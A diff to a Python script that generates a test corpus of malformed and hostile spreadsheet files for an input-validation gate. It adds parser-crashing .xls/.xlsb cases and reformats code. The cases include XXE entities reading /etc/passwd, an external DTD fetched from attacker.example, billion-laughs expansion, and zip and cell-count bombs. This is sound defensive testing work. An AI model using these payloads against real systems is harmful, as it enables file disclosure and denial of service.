@@ -3,7 +3,8 @@
 Why a script and not checked-in binaries: each file says in code what is wrong with it, it
 can be rebuilt when a writer library changes, and a reviewer can read the attack instead of
 trusting a blob.  Run ``python tests/corpus/make_corpus.py OUTDIR`` to look at the files;
-the tests call :func:`build` into a temporary folder.
+the tests call :func:`build` into a temporary folder.  ``--fuzz-reader SEED N`` mutates
+the valid files and reads them in child processes (:func:`fuzz_reader`).
 
 Every file is a :class:`Case`: what the input gate must do with it (refuse with ``reason``
 or accept as ``fmt`` with ``notes``) and which exit codes ``gendan check`` may give.
@@ -25,7 +26,7 @@ import tempfile
 import zipfile
 import zlib
 from collections.abc import Callable
-from dataclasses import dataclass, field
+from dataclasses import dataclass
 from pathlib import Path
 from typing import Any
 from xml.sax.saxutils import escape, quoteattr
@@ -243,7 +244,12 @@ def _write_openpyxl(
     wb.save(path)
 
 
-def _rewrite_zip(src: Path, dest: Path, change: Callable[[str, bytes], bytes | None], extra: dict[str, bytes] | None = None) -> None:
+def _rewrite_zip(
+    src: Path,
+    dest: Path,
+    change: Callable[[str, bytes], bytes | None],
+    extra: dict[str, bytes] | None = None,
+) -> None:
     """Copy a zip part by part; ``change`` returns new bytes, the same, or None to drop."""
     with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dest, "w", zipfile.ZIP_DEFLATED) as zout:
         for info in zin.infolist():
@@ -258,7 +264,9 @@ def _base_xlsx(path: Path) -> None:
     _write_openpyxl(path)
 
 
-def _patched(path: Path, change: Callable[[str, bytes], bytes | None], extra: dict[str, bytes] | None = None) -> None:
+def _patched(
+    path: Path, change: Callable[[str, bytes], bytes | None], extra: dict[str, bytes] | None = None
+) -> None:
     with tempfile.TemporaryDirectory() as td:
         base = Path(td) / "base.xlsx"
         _base_xlsx(base)
@@ -366,7 +374,9 @@ def biff8(sheets: list[tuple[str, Cells]], date1904: bool = False, filepass: boo
         out = bof(0x0010)
         rows = [r for r, _, _ in cells] or [0]
         cols = [c for _, c, _ in cells] or [0]
-        out += _rec(0x0200, struct.pack("<IIHHH", min(rows), max(rows) + 1, min(cols), max(cols) + 1, 0))
+        out += _rec(
+            0x0200, struct.pack("<IIHHH", min(rows), max(rows) + 1, min(cols), max(cols) + 1, 0)
+        )
         for r, c, v in cells:
             if isinstance(v, str):
                 out += _rec(0x00FD, struct.pack("<HHHI", r, c, 15, idx[v]))
@@ -381,7 +391,9 @@ def biff8(sheets: list[tuple[str, Cells]], date1904: bool = False, filepass: boo
         g += _rec(0x0042, struct.pack("<H", 1200))
         g += _rec(0x0022, struct.pack("<H", 1 if date1904 else 0))
         for (name, _), off in zip(sheets, offsets, strict=True):
-            g += _rec(0x0085, struct.pack("<IBBBB", off, 0, 0, len(name), 1) + name.encode("utf-16-le"))
+            g += _rec(
+                0x0085, struct.pack("<IBBBB", off, 0, 0, len(name), 1) + name.encode("utf-16-le")
+            )
         return g + _rec(0x00FC, sst_body) + _rec(0x000A)
 
     size = len(globals_([0] * len(sheets)))
@@ -419,7 +431,11 @@ _R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
 
 def xlsb(sheets: list[tuple[str, Cells]], date1904: bool = False) -> bytes:
     """A minimal .xlsb: BIFF12 workbook.bin + one worksheet .bin per sheet (inline strings)."""
-    wb = _b12(0x83) + _b12(0x99, struct.pack("<II", 1 if date1904 else 0, 0) + _wstr("")) + _b12(0x8F)
+    wb = (
+        _b12(0x83)
+        + _b12(0x99, struct.pack("<II", 1 if date1904 else 0, 0) + _wstr(""))
+        + _b12(0x8F)
+    )
     for i, (name, _) in enumerate(sheets):
         wb += _b12(0x9C, struct.pack("<II", 0, i + 1) + _wstr(f"rId{i + 1}") + _wstr(name))
     wb += _b12(0x90) + _b12(0x84)
@@ -447,7 +463,11 @@ def xlsb(sheets: list[tuple[str, Cells]], date1904: bool = False) -> bytes:
     buf = io.BytesIO()
     with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
         z.writestr("[Content_Types].xml", ct)
-        z.writestr("_rels/.rels", _REL_HEAD + f'<Relationship Id="rId1" Type="{_R}/officeDocument" Target="xl/workbook.bin"/></Relationships>')
+        z.writestr(
+            "_rels/.rels",
+            _REL_HEAD
+            + f'<Relationship Id="rId1" Type="{_R}/officeDocument" Target="xl/workbook.bin"/></Relationships>',
+        )
         z.writestr("xl/_rels/workbook.bin.rels", _REL_HEAD + rels + "</Relationships>")
         for n, d in parts.items():
             z.writestr(n, d)
@@ -504,7 +524,12 @@ def _legacy_sheets() -> list[tuple[str, list[list[Any]]]]:
 _SHEET_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
 
 
-def raw_xlsx(path: Path, sheet_xml: bytes | str, extra: dict[str, bytes | str] | None = None, workbook_pr: str = "") -> None:
+def raw_xlsx(
+    path: Path,
+    sheet_xml: bytes | str,
+    extra: dict[str, bytes | str] | None = None,
+    workbook_pr: str = "",
+) -> None:
     """A hand-assembled one-sheet .xlsx around ``sheet_xml`` (for what writers refuse to make)."""
     ct = (
         _CT_HEAD
@@ -516,10 +541,14 @@ def raw_xlsx(path: Path, sheet_xml: bytes | str, extra: dict[str, bytes | str] |
         f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{_SHEET_NS}" xmlns:r="{_R}">{workbook_pr}'
         '<sheets><sheet name="工作序列表" sheetId="1" r:id="rId1"/></sheets></workbook>'
     )
-    rels = _REL_HEAD + f'<Relationship Id="rId1" Type="{_R}/worksheet" Target="worksheets/sheet1.xml"/>'
+    rels = (
+        _REL_HEAD
+        + f'<Relationship Id="rId1" Type="{_R}/worksheet" Target="worksheets/sheet1.xml"/>'
+    )
     parts: dict[str, bytes | str] = {
         "[Content_Types].xml": ct,
-        "_rels/.rels": _REL_HEAD + f'<Relationship Id="rId1" Type="{_R}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
+        "_rels/.rels": _REL_HEAD
+        + f'<Relationship Id="rId1" Type="{_R}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
         "xl/workbook.xml": wb,
         "xl/worksheets/sheet1.xml": sheet_xml,
     }
@@ -562,7 +591,9 @@ def _sheet_xml(rows: list[list[Any]], prefix: str = "", with_r: bool = True) -> 
             elif isinstance(v, (int, float)):
                 out.append(f"<{p}c{ref}><{p}v>{v!r}</{p}v></{p}c>")
             else:
-                out.append(f'<{p}c{ref} t="inlineStr"><{p}is><{p}t>{escape(str(v))}</{p}t></{p}is></{p}c>')
+                out.append(
+                    f'<{p}c{ref} t="inlineStr"><{p}is><{p}t>{escape(str(v))}</{p}t></{p}is></{p}c>'
+                )
         out.append(f"</{p}row>")
     out.append(f"</{p}sheetData></{p}worksheet>")
     return "".join(out)
@@ -582,26 +613,41 @@ def _empty(p: Path) -> None:
 
 @case("csv-renamed.xlsx", "UTF-8 CSV (with BOM) saved under .xlsx", reason="csv")
 def _csv(p: Path) -> None:
-    lines = [",".join(master_header()[:6])] + [",".join(str(v) for v in r[:6]) for r in master_rows()]
+    lines = [",".join(master_header()[:6])] + [
+        ",".join(str(v) for v in r[:6]) for r in master_rows()
+    ]
     p.write_bytes(b"\xef\xbb\xbf" + "\r\n".join(lines).encode("utf-8"))
 
 
-@case("csv-gbk-renamed.xlsx", "GBK-encoded CSV (what Chinese Excel saves) under .xlsx", reason="csv")
+@case(
+    "csv-gbk-renamed.xlsx", "GBK-encoded CSV (what Chinese Excel saves) under .xlsx", reason="csv"
+)
 def _csv_gbk(p: Path) -> None:
-    lines = [",".join(master_header()[:6])] + [",".join(str(v) for v in r[:6]) for r in master_rows()]
+    lines = [",".join(master_header()[:6])] + [
+        ",".join(str(v) for v in r[:6]) for r in master_rows()
+    ]
     p.write_bytes("\r\n".join(lines).encode("gbk"))
 
 
-@case("tsv-utf16-renamed.xls", "UTF-16 tab-separated text ('Unicode text' export) under .xls", reason="csv")
+@case(
+    "tsv-utf16-renamed.xls",
+    "UTF-16 tab-separated text ('Unicode text' export) under .xls",
+    reason="csv",
+)
 def _tsv16(p: Path) -> None:
-    lines = ["\t".join(master_header()[:6])] + ["\t".join(str(v) for v in r[:6]) for r in master_rows()]
+    lines = ["\t".join(master_header()[:6])] + [
+        "\t".join(str(v) for v in r[:6]) for r in master_rows()
+    ]
     p.write_bytes(b"\xff\xfe" + "\r\n".join(lines).encode("utf-16-le"))
 
 
 @case("html-export.xls", "HTML table saved as .xls (web 'export to Excel')", reason="html")
 def _html(p: Path) -> None:
     cells = "".join(f"<td>{escape(h)}</td>" for h in master_header()[:6])
-    p.write_text(f"<html><head><meta charset='utf-8'></head><body><table><tr>{cells}</tr></table></body></html>", encoding="utf-8")
+    p.write_text(
+        f"<html><head><meta charset='utf-8'></head><body><table><tr>{cells}</tr></table></body></html>",
+        encoding="utf-8",
+    )
 
 
 @case("spreadsheetml-2003.xml.xls", "Excel 2003 XML spreadsheet saved as .xls", reason="xml2003")
@@ -643,7 +689,11 @@ def _truncated(p: Path) -> None:
     p.write_bytes(data[: len(data) // 2])
 
 
-@case("truncated-tail.xlsx", "a valid workbook missing its last 10 bytes (central directory cut)", reason="corrupt-zip")
+@case(
+    "truncated-tail.xlsx",
+    "a valid workbook missing its last 10 bytes (central directory cut)",
+    reason="corrupt-zip",
+)
 def _truncated_tail(p: Path) -> None:
     _base_xlsx(p)
     data = p.read_bytes()
@@ -672,7 +722,8 @@ def _docx(p: Path) -> None:
     with zipfile.ZipFile(p, "w") as z:
         z.writestr(
             "[Content_Types].xml",
-            _CT_HEAD + '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
+            _CT_HEAD
+            + '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
         )
         z.writestr("word/document.xml", "<w:document xmlns:w='x'/>")
 
@@ -684,12 +735,20 @@ def _odt(p: Path) -> None:
         z.writestr("content.xml", "<x/>")
 
 
-@case("missing-workbook-part.xlsx", "content types present, xl/workbook.xml missing", reason="missing-part")
+@case(
+    "missing-workbook-part.xlsx",
+    "content types present, xl/workbook.xml missing",
+    reason="missing-part",
+)
 def _missing_wb(p: Path) -> None:
     _patched(p, lambda n, d: None if n == "xl/workbook.xml" else d)
 
 
-@case("duplicate-part.xlsx", "the worksheet part stored twice (ambiguous package)", reason="duplicate-part")
+@case(
+    "duplicate-part.xlsx",
+    "the worksheet part stored twice (ambiguous package)",
+    reason="duplicate-part",
+)
 def _dup(p: Path) -> None:
     import warnings
 
@@ -704,18 +763,30 @@ def _dup(p: Path) -> None:
                 zout.writestr("xl/worksheets/sheet1.xml", _sheet_xml([["evil"]]))
 
 
-@case("bzip2-part.xlsx", "a part compressed with bzip2 (Excel only uses deflate)", reason="unsupported-compression")
+@case(
+    "bzip2-part.xlsx",
+    "a part compressed with bzip2 (Excel only uses deflate)",
+    reason="unsupported-compression",
+)
 def _bzip(p: Path) -> None:
     with tempfile.TemporaryDirectory() as td:
         base = Path(td) / "b.xlsx"
         _base_xlsx(base)
         with zipfile.ZipFile(base) as zin, zipfile.ZipFile(p, "w", zipfile.ZIP_DEFLATED) as zout:
             for info in zin.infolist():
-                ctype = zipfile.ZIP_BZIP2 if info.filename.endswith("sheet1.xml") else zipfile.ZIP_DEFLATED
+                ctype = (
+                    zipfile.ZIP_BZIP2
+                    if info.filename.endswith("sheet1.xml")
+                    else zipfile.ZIP_DEFLATED
+                )
                 zout.writestr(info.filename, zin.read(info.filename), compress_type=ctype)
 
 
-@case("encrypted-zip-entry.xlsx", "zip entries flagged as (ZipCrypto) encrypted", reason="encrypted-zip")
+@case(
+    "encrypted-zip-entry.xlsx",
+    "zip entries flagged as (ZipCrypto) encrypted",
+    reason="encrypted-zip",
+)
 def _zipcrypto(p: Path) -> None:
     _base_xlsx(p)
     data = bytearray(p.read_bytes())
@@ -731,7 +802,11 @@ def _zipcrypto(p: Path) -> None:
 # --------------------------------------------------------------------------- 3. OLE containers
 
 
-@case("password-protected.xlsx", "an .xlsx encrypted with a password (OLE EncryptionInfo + EncryptedPackage)", reason="encrypted")
+@case(
+    "password-protected.xlsx",
+    "an .xlsx encrypted with a password (OLE EncryptionInfo + EncryptedPackage)",
+    reason="encrypted",
+)
 def _encrypted(p: Path) -> None:
     from msoffcrypto.format.ooxml import OOXMLFile  # test dependency (msoffcrypto-tool)
 
@@ -743,22 +818,110 @@ def _encrypted(p: Path) -> None:
             f.encrypt("gendan", fout)
 
 
-@case("legacy.xls", "a legacy BIFF8 .xls (CFB + Workbook stream) holding the master", fmt="xls", notes=("legacy-xls",))
+@case(
+    "legacy.xls",
+    "a legacy BIFF8 .xls (CFB + Workbook stream) holding the master",
+    fmt="xls",
+    notes=("legacy-xls",),
+)
 def _xls(p: Path) -> None:
-    p.write_bytes(cfb({"Workbook": biff8([(n, _grid_cells(rows)) for n, rows in _legacy_sheets()])}))
+    p.write_bytes(
+        cfb({"Workbook": biff8([(n, _grid_cells(rows)) for n, rows in _legacy_sheets()])})
+    )
 
 
-@case("legacy-1904.xls", "a BIFF8 .xls in the 1904 date system", fmt="xls", notes=("legacy-xls", "date1904"))
+@case(
+    "legacy-1904.xls",
+    "a BIFF8 .xls in the 1904 date system",
+    fmt="xls",
+    notes=("legacy-xls", "date1904"),
+)
 def _xls1904(p: Path) -> None:
-    p.write_bytes(cfb({"Workbook": biff8([(n, _grid_cells(rows)) for n, rows in _legacy_sheets()], date1904=True)}))
+    p.write_bytes(
+        cfb(
+            {
+                "Workbook": biff8(
+                    [(n, _grid_cells(rows)) for n, rows in _legacy_sheets()], date1904=True
+                )
+            }
+        )
+    )
 
 
-@case("password-protected.xls", "a BIFF8 .xls with a FILEPASS record (password to open)", reason="encrypted")
+@case(
+    "password-protected.xls",
+    "a BIFF8 .xls with a FILEPASS record (password to open)",
+    reason="encrypted",
+)
 def _xls_pw(p: Path) -> None:
-    p.write_bytes(cfb({"Workbook": biff8([(n, _grid_cells(rows)) for n, rows in _legacy_sheets()], filepass=True)}))
+    p.write_bytes(
+        cfb(
+            {
+                "Workbook": biff8(
+                    [(n, _grid_cells(rows)) for n, rows in _legacy_sheets()], filepass=True
+                )
+            }
+        )
+    )
 
 
-@case("word-doc-renamed.xls", "a Word 97 .doc (OLE with WordDocument stream) under .xls", reason="word")
+@case(
+    "xls-bad-boundsheet.xls",
+    "a BOUNDSHEET record pointing past the stream (calamine panics: xls.rs:606)",
+    reason="corrupt-xls",
+)
+def _xls_bad_bs(p: Path) -> None:
+    w = bytearray(biff8([(n, _grid_cells(rows)) for n, rows in _legacy_sheets()]))
+    i = w.find(struct.pack("<H", 0x0085))
+    struct.pack_into("<I", w, i + 4, len(w) + 1000)
+    p.write_bytes(cfb({"Workbook": bytes(w)}))
+
+
+@case(
+    "xls-reversed-dimensions.xls",
+    "a DIMENSIONS record with first row > last row (calamine asks for 343 GB and aborts)",
+    reason="corrupt-xls",
+)
+def _xls_rev_dim(p: Path) -> None:
+    w = bytearray(biff8([(n, _grid_cells(rows)) for n, rows in _legacy_sheets()]))
+    i = w.find(struct.pack("<HH", 0x0200, 14))
+    struct.pack_into("<I", w, i + 4, 120)  # rwMic = 120 > rwMac
+    p.write_bytes(cfb({"Workbook": bytes(w)}))
+
+
+@case(
+    "xls-bad-sst.xls",
+    "a shared-string length running past the SST record (calamine: an error here, a panic in utils.rs for other lengths found by fuzzing)",
+    reason="corrupt-xls",
+)
+def _xls_bad_sst(p: Path) -> None:
+    w = bytearray(biff8([(n, _grid_cells(rows)) for n, rows in _legacy_sheets()]))
+    i = w.find(struct.pack("<H", 0x00FC))
+    struct.pack_into("<H", w, i + 4 + 8 + 2 * 0, 60000)  # cch of the first string
+    p.write_bytes(cfb({"Workbook": bytes(w)}))
+
+
+@case(
+    "xlsb-missing-rels.xlsb",
+    "an .xlsb whose workbook relationships part is missing (calamine panics: xlsb/mod.rs:312)",
+    reason="missing-part",
+)
+def _xlsb_no_rels(p: Path) -> None:
+    src = xlsb([(n, _grid_cells(rows)) for n, rows in _legacy_sheets()])
+    with (
+        zipfile.ZipFile(io.BytesIO(src)) as zin,
+        zipfile.ZipFile(p, "w", zipfile.ZIP_DEFLATED) as zout,
+    ):
+        for info in zin.infolist():
+            if info.filename != "xl/_rels/workbook.bin.rels":
+                zout.writestr(info.filename, zin.read(info.filename))
+
+
+@case(
+    "word-doc-renamed.xls",
+    "a Word 97 .doc (OLE with WordDocument stream) under .xls",
+    reason="word",
+)
 def _doc(p: Path) -> None:
     p.write_bytes(cfb({"WordDocument": b"\xec\xa5" + b"\0" * 100, "1Table": b"\0" * 100}))
 
@@ -768,7 +931,11 @@ def _ole_garbage(p: Path) -> None:
     p.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 1000)
 
 
-@case("xls-corner-bomb.xls", "a 5 KB .xls with values in A1 and IV65536 (16.7 M-cell extent)", reason="too-many-cells")
+@case(
+    "xls-corner-bomb.xls",
+    "a 5 KB .xls with values in A1 and IV65536 (16.7 M-cell extent)",
+    reason="too-many-cells",
+)
 def _xls_bomb(p: Path) -> None:
     p.write_bytes(cfb({"Workbook": biff8([("工作序列表", [(0, 0, 1.0), (65535, 255, 2.0)])])}))
 
@@ -784,9 +951,17 @@ def _bomb_ratio(p: Path) -> None:
     raw_xlsx(p, xml)
 
 
-@case("bomb-lying-size.xlsx", "a part that declares 1 KB but inflates to 20 MB", reason="size-mismatch")
+@case(
+    "bomb-lying-size.xlsx",
+    "a part that declares 1 KB but inflates to 20 MB",
+    reason="size-mismatch",
+)
 def _bomb_lie(p: Path) -> None:
-    xml = _sheet_xml(_master_grid()).encode().replace(b"<sheetData>", b"<sheetData>" + b" " * (20 * 1024 * 1024), 1)
+    xml = (
+        _sheet_xml(_master_grid())
+        .encode()
+        .replace(b"<sheetData>", b"<sheetData>" + b" " * (20 * 1024 * 1024), 1)
+    )
     raw_xlsx(p, xml)
     data = bytearray(p.read_bytes())
     with zipfile.ZipFile(p) as z:
@@ -805,10 +980,16 @@ def _bomb_lie(p: Path) -> None:
 
 @case("bomb-entries.xlsx", "a package with 10,001 parts", reason="too-many-entries")
 def _bomb_entries(p: Path) -> None:
-    raw_xlsx(p, _sheet_xml(_master_grid()), extra={f"xl/junk/{i}.xml": b"<a/>" for i in range(10_001)})
+    raw_xlsx(
+        p, _sheet_xml(_master_grid()), extra={f"xl/junk/{i}.xml": b"<a/>" for i in range(10_001)}
+    )
 
 
-@case("bomb-corner-cells.xlsx", "1 KB .xlsx with values in A1 and XFD1048576 (calamine would allocate 512 GB and abort)", reason="too-many-cells")
+@case(
+    "bomb-corner-cells.xlsx",
+    "1 KB .xlsx with values in A1 and XFD1048576 (calamine would allocate 512 GB and abort)",
+    reason="too-many-cells",
+)
 def _bomb_corner(p: Path) -> None:
     raw_xlsx(
         p,
@@ -817,7 +998,11 @@ def _bomb_corner(p: Path) -> None:
     )
 
 
-@case("bomb-corner-no-refs.xlsx", "row r=1048576 with 16,384 cells that carry no r attribute", reason="too-many-cells")
+@case(
+    "bomb-corner-no-refs.xlsx",
+    "row r=1048576 with 16,384 cells that carry no r attribute",
+    reason="too-many-cells",
+)
 def _bomb_corner_nor(p: Path) -> None:
     cells = "<c><v>1</v></c>" * 16384
     raw_xlsx(
@@ -827,7 +1012,11 @@ def _bomb_corner_nor(p: Path) -> None:
     )
 
 
-@case("bomb-ods-repeat.ods", "an .ods cell repeated 16,384 columns x 1,048,575 rows", reason="too-many-cells")
+@case(
+    "bomb-ods-repeat.ods",
+    "an .ods cell repeated 16,384 columns x 1,048,575 rows",
+    reason="too-many-cells",
+)
 def _bomb_ods(p: Path) -> None:
     p.write_bytes(
         ods(
@@ -848,7 +1037,11 @@ def _bomb_xlsb(p: Path) -> None:
 _XXE = '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
 
 
-@case("xxe-sheet.xlsx", "worksheet with an external entity reading /etc/passwd into a cell", reason="doctype")
+@case(
+    "xxe-sheet.xlsx",
+    "worksheet with an external entity reading /etc/passwd into a cell",
+    reason="doctype",
+)
 def _xxe(p: Path) -> None:
     raw_xlsx(
         p,
@@ -857,9 +1050,16 @@ def _xxe(p: Path) -> None:
     )
 
 
-@case("xxe-shared-strings.xlsx", "billion-laughs entity expansion in sharedStrings.xml", reason="doctype")
+@case(
+    "xxe-shared-strings.xlsx",
+    "billion-laughs entity expansion in sharedStrings.xml",
+    reason="doctype",
+)
 def _laughs(p: Path) -> None:
-    ents = '<!ENTITY lol "lol">' + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
+    ents = '<!ENTITY lol "lol">' + "".join(
+        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
+        for i in range(1, 10)
+    )
     sst = f'<?xml version="1.0"?><!DOCTYPE sst [{ents}]><sst xmlns="{_SHEET_NS}" count="1" uniqueCount="1"><si><t>&lol9;</t></si></sst>'
     raw_xlsx(
         p,
@@ -880,7 +1080,7 @@ def codecs_bom16() -> bytes:
 
 @case("xxe-utf7.xlsx", "DOCTYPE hidden in a UTF-7 encoded part (+ADw-!DOCTYPE)", reason="doctype")
 def _xxe7(p: Path) -> None:
-    body = f"{_XXE}<worksheet xmlns=\"{_SHEET_NS}\"><sheetData/></worksheet>".encode("utf-7")
+    body = f'{_XXE}<worksheet xmlns="{_SHEET_NS}"><sheetData/></worksheet>'.encode("utf-7")
     raw_xlsx(p, b'<?xml version="1.0" encoding="UTF-7"?>' + body)
 
 
@@ -902,30 +1102,54 @@ def _xxe_ct(p: Path) -> None:
     _patched(p, change)
 
 
-@case("xxe-rels.xlsx", "parameter entity (external DTD) in xl/_rels/workbook.xml.rels", reason="doctype")
+@case(
+    "xxe-rels.xlsx",
+    "parameter entity (external DTD) in xl/_rels/workbook.xml.rels",
+    reason="doctype",
+)
 def _xxe_rels(p: Path) -> None:
     def change(n: str, d: bytes) -> bytes:
         if n == "xl/_rels/workbook.xml.rels":
-            return _with_doctype(d, b'<!DOCTYPE r [<!ENTITY % ext SYSTEM "http://attacker.example/x.dtd"> %ext;]>')
+            return _with_doctype(
+                d, b'<!DOCTYPE r [<!ENTITY % ext SYSTEM "http://attacker.example/x.dtd"> %ext;]>'
+            )
         return d
 
     _patched(p, change)
 
 
-@case("xml-unknown-encoding.xlsx", "a part declaring an encoding no codec knows", reason="xml-encoding")
+@case(
+    "xml-unknown-encoding.xlsx",
+    "a part declaring an encoding no codec knows",
+    reason="xml-encoding",
+)
 def _xml_enc(p: Path) -> None:
-    raw_xlsx(p, f'<?xml version="1.0" encoding="x-gendan-42"?><worksheet xmlns="{_SHEET_NS}"><sheetData/></worksheet>')
+    raw_xlsx(
+        p,
+        f'<?xml version="1.0" encoding="x-gendan-42"?><worksheet xmlns="{_SHEET_NS}"><sheetData/></worksheet>',
+    )
 
 
-@case("xml-long-prolog.xlsx", "a 100 KB comment before the root element (outruns a naive scan)", reason="xml-prolog")
+@case(
+    "xml-long-prolog.xlsx",
+    "a 100 KB comment before the root element (outruns a naive scan)",
+    reason="xml-prolog",
+)
 def _xml_prolog(p: Path) -> None:
-    raw_xlsx(p, f'<?xml version="1.0"?><!--{"x" * 100_000}--><worksheet xmlns="{_SHEET_NS}"><sheetData/></worksheet>')
+    raw_xlsx(
+        p,
+        f'<?xml version="1.0"?><!--{"x" * 100_000}--><worksheet xmlns="{_SHEET_NS}"><sheetData/></worksheet>',
+    )
 
 
 # --------------------------------------------------------------------------- 6. odd but valid
 
 
-@case("master-ok.xlsx", "a clean master workbook (title row, header, 3 orders, reference sheets)", fmt="xlsx")
+@case(
+    "master-ok.xlsx",
+    "a clean master workbook (title row, header, 3 orders, reference sheets)",
+    fmt="xlsx",
+)
 def _ok(p: Path) -> None:
     _base_xlsx(p)
 
@@ -935,17 +1159,37 @@ def _no_title(p: Path) -> None:
     _write_openpyxl(p, title_rows=0)
 
 
-@case("no-master-sheet.xlsx", "only 客户/产品/公司 and a notes sheet; no sheet with master headers", fmt="xlsx", cli_exit={2})
+@case(
+    "no-master-sheet.xlsx",
+    "only 客户/产品/公司 and a notes sheet; no sheet with master headers",
+    fmt="xlsx",
+    cli_exit={2},
+)
 def _no_master(p: Path) -> None:
-    _write_openpyxl(p, rows=[["跟单备忘"], ["下周一寄单"]], header=["备注 Notes"], title_rows=0, master_name="Sheet1")
+    _write_openpyxl(
+        p,
+        rows=[["跟单备忘"], ["下周一寄单"]],
+        header=["备注 Notes"],
+        title_rows=0,
+        master_name="Sheet1",
+    )
 
 
-@case("master-renamed-sheet.xlsx", "the master on a sheet named '2026订单' (found by its headers)", fmt="xlsx")
+@case(
+    "master-renamed-sheet.xlsx",
+    "the master on a sheet named '2026订单' (found by its headers)",
+    fmt="xlsx",
+)
 def _renamed(p: Path) -> None:
     _write_openpyxl(p, master_name="2026订单")
 
 
-@case("no-header-row.xlsx", "a 工作序列表 sheet holding numbers only, no header row", fmt="xlsx", cli_exit={2})
+@case(
+    "no-header-row.xlsx",
+    "a 工作序列表 sheet holding numbers only, no header row",
+    fmt="xlsx",
+    cli_exit={2},
+)
 def _no_header(p: Path) -> None:
     _write_openpyxl(p, rows=[[1, 2, 3], [4, 5, 6]], header=[7, 8, 9])
 
@@ -955,7 +1199,12 @@ def _only_header(p: Path) -> None:
     _write_openpyxl(p, rows=[])
 
 
-@case("error-values.xlsx", "#N/A, #VALUE!, #REF!, #DIV/0! in data cells (stored as error cells)", fmt="xlsx", notes=("error-values",))
+@case(
+    "error-values.xlsx",
+    "#N/A, #VALUE!, #REF!, #DIV/0! in data cells (stored as error cells)",
+    fmt="xlsx",
+    notes=("error-values",),
+)
 def _errors(p: Path) -> None:
     keys = master_keys()
     rows = master_rows()
@@ -966,7 +1215,12 @@ def _errors(p: Path) -> None:
     _write_openpyxl(p, rows=rows)
 
 
-@case("error-values-formulas.xlsx", "formulas whose cached results are errors (xlsxwriter)", fmt="xlsx", notes=("error-values",))
+@case(
+    "error-values-formulas.xlsx",
+    "formulas whose cached results are errors (xlsxwriter)",
+    fmt="xlsx",
+    notes=("error-values",),
+)
 def _errors_f(p: Path) -> None:
     def tweak(wb: Any, ws: Any, fmt: Any) -> None:
         keys = master_keys()
@@ -976,7 +1230,11 @@ def _errors_f(p: Path) -> None:
     _write_xlsxwriter(p, tweak)
 
 
-@case("merged-cells.xlsx", "merged title, a merged customer over two orders, merged header cells", fmt="xlsx")
+@case(
+    "merged-cells.xlsx",
+    "merged title, a merged customer over two orders, merged header cells",
+    fmt="xlsx",
+)
 def _merged(p: Path) -> None:
     def tweak(wb: Any, ws: Any) -> None:
         keys = master_keys()
@@ -989,7 +1247,11 @@ def _merged(p: Path) -> None:
     _write_openpyxl(p, tweak=tweak)
 
 
-@case("hidden-rows-cols.xlsx", "a hidden order row, a hidden column and a hidden reference sheet", fmt="xlsx")
+@case(
+    "hidden-rows-cols.xlsx",
+    "a hidden order row, a hidden column and a hidden reference sheet",
+    fmt="xlsx",
+)
 def _hidden(p: Path) -> None:
     def tweak(wb: Any, ws: Any) -> None:
         ws.row_dimensions[4].hidden = True
@@ -999,7 +1261,11 @@ def _hidden(p: Path) -> None:
     _write_openpyxl(p, tweak=tweak)
 
 
-@case("long-strings.xlsx", "32,767-character remarks and contract number (Excel's cell maximum)", fmt="xlsx")
+@case(
+    "long-strings.xlsx",
+    "32,767-character remarks and contract number (Excel's cell maximum)",
+    fmt="xlsx",
+)
 def _long(p: Path) -> None:
     keys = master_keys()
     rows = master_rows()
@@ -1008,14 +1274,22 @@ def _long(p: Path) -> None:
     _write_openpyxl(p, rows=rows)
 
 
-@case("over-long-string.xlsx", "a 100,000-character string (over Excel's limit; written raw)", fmt="xlsx")
+@case(
+    "over-long-string.xlsx",
+    "a 100,000-character string (over Excel's limit; written raw)",
+    fmt="xlsx",
+)
 def _over_long(p: Path) -> None:
     grid = _master_grid()
     grid[2][master_keys().index("remarks")] = "长" * 100_000
     raw_xlsx(p, _sheet_xml(grid))
 
 
-@case("huge-negative-numbers.xlsx", "1e308, -1e308, 5e-324, -0.0, negative cartons, 1e20 amount", fmt="xlsx")
+@case(
+    "huge-negative-numbers.xlsx",
+    "1e308, -1e308, 5e-324, -0.0, negative cartons, 1e20 amount",
+    fmt="xlsx",
+)
 def _huge(p: Path) -> None:
     keys = master_keys()
     rows = master_rows()
@@ -1029,7 +1303,11 @@ def _huge(p: Path) -> None:
     _write_openpyxl(p, rows=rows)
 
 
-@case("nan-inf-raw.xlsx", "<v>NaN</v>, <v>INF</v> and <v>abc</v> in numeric cells (no writer makes these)", fmt="xlsx")
+@case(
+    "nan-inf-raw.xlsx",
+    "<v>NaN</v>, <v>INF</v> and <v>abc</v> in numeric cells (no writer makes these)",
+    fmt="xlsx",
+)
 def _nan(p: Path) -> None:
     grid = _master_grid()
     keys = master_keys()
@@ -1039,7 +1317,11 @@ def _nan(p: Path) -> None:
     raw_xlsx(p, _sheet_xml(grid))
 
 
-@case("dates-out-of-range.xlsx", "pre-1900 text dates, serial -1, serial 3,000,000, 1900-02-29 in date columns", fmt="xlsx")
+@case(
+    "dates-out-of-range.xlsx",
+    "pre-1900 text dates, serial -1, serial 3,000,000, 1900-02-29 in date columns",
+    fmt="xlsx",
+)
 def _dates(p: Path) -> None:
     keys = master_keys()
     rows = master_rows()
@@ -1058,19 +1340,30 @@ def _dates(p: Path) -> None:
     _write_openpyxl(p, rows=rows, tweak=tweak)
 
 
-@case("formulas-cached.xlsx", "amount and weights as formulas with cached values (as Excel saves)", fmt="xlsx")
+@case(
+    "formulas-cached.xlsx",
+    "amount and weights as formulas with cached values (as Excel saves)",
+    fmt="xlsx",
+)
